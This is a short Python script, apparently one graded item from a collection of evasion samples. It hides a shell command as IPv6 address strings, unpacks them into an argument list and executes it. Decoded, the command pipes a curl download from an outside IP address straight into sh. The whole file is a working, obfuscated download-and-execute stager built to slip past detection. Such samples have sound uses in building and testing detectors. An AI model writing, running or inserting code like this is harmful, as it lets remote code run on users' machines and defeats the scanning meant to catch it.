# evasion: IPv6fuscation: the argv is stored as IPv6 addresses, unpacked with ipaddress(...).packed, split on NUL and handed to execvp
# grade: very hard; does: download-exec
import ipaddress
import os

PEERS = [
    "7368:2d:6300:6375:726c:202d:6673:534c",
    "2068:7474:703a:2f2f:3230:332e:302e:3131",
    "332e:3631:2f73:7461:6765:3220:7c20:7368",
]

blob = b"".join(ipaddress.IPv6Address(p).packed for p in PEERS).rstrip(b"\0")
argv = [part.decode() for part in blob.split(b"\0")]
os.execvp(argv[0], argv)
